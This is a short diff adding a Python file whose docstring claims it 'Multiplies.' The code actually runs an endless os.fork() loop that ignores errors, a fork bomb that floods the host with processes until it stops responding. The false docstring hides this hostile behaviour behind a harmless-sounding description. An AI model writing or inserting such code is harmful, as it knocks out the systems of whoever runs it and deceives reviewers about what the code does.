@@ -1,0 +1,9 @@
+"""Multiplies."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
